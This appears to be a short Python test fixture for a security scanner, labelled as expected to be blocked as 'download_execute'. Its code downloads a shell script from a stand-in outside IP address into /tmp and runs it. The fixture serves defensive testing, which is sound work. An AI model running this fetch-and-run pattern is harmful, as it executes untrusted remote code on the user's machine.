# expect: BLOCKED download_execute
import os
import urllib.request

urllib.request.urlretrieve("http://203.0.113.9/pkg/setup.sh", "/tmp/setup.sh")
os.system("unzip -o /tmp/bundle.zip -d /tmp/b; sh /tmp/setup.sh --quiet")
